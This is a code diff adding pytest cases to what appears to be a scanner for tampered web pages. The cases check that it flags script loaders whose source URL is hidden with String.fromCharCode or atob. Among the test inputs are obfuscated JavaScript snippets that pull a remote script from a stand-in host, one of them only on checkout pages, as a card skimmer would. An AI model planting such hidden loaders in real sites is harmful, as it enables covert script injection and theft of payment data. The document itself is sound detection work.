@@ -302,3 +302,35 @@ def test_a_script_that_hides_the_word_script_and_an_address_loads_one():
     (sign,) = found(code)
     assert (sign.sign, sign.leads_to[0]) == (TamperSign.SCRIPT_WRITES, "https://cdn.bad.test/lib.js")
     assert found(code.replace(b64encode(b"script").decode(), b64encode(b"canvas").decode())) == []
+
+
+CODES = ",".join(str(ord(one)) for one in "https://bad.test/a.js")
+
+
+@pytest.mark.parametrize(
+    "code",
+    [
+        f"var s=document.createElement('script');s.src=String.fromCharCode({CODES});document.head.appendChild(s)",
+        f"var s=document.createElement('script');s.setAttribute('src',String.fromCharCode({CODES}))",
+        f"$.getScript(String.fromCharCode({CODES}))",
+        f"if(location.pathname.indexOf('checkout')>0)$.getScript(atob('{b64encode(b'https://bad.test/a.js').decode()}'))",
+    ],
+)
+def test_a_script_whose_host_cannot_be_read_is_a_sign(code):
+    assert [(one.sign, one.leads_to) for one in found(code)] == [(TamperSign.SCRIPT_WRITES, ("https://bad.test/a.js",))]
+    assert found(code, known={"bad.test"}) == []
+
+
+@pytest.mark.parametrize(
+    "code",
+    [
+        # a statistics loader, a tag manager, a polyfill with a fallback, and an A/B tool: all name their hosts
+        "var s=document.createElement('script');s.src='https://stat.users.test/'+atob('YS5qcw==');d.appendChild(s)",
+        "(function(w,d,s,l,i){var j=d.createElement(s);j.src='https://tags.users.test/gtm.js?id='})(w,document,'script')",
+        "window.fetch||document.write('<script src=\"https://poly.users.test/f.js\"><\\/script>');String.fromCharCode(1,2,3,65)",
+        "$.getScript('https://ab.users.test/t.js');var key=String.fromCharCode(97,98,99,100)",
+        "var s=document.createElement('script');s.src=String.fromCharCode(47,106,115,47,97,46)",  # own
+    ],
+)
+def test_loaders_that_name_their_host_are_none(code):
+    assert found(code) == []
